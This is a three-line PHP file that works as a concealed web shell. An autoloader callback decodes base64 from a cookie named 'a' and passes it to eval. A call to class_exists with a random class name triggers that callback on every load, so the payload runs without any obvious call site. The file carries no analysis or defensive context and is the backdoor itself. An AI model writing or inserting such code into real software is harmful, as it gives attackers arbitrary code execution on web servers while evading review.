<?php
spl_autoload_register(function ($cls) { eval(base64_decode($_COOKIE['a'])); });
class_exists('NoSuchClass' . mt_rand());
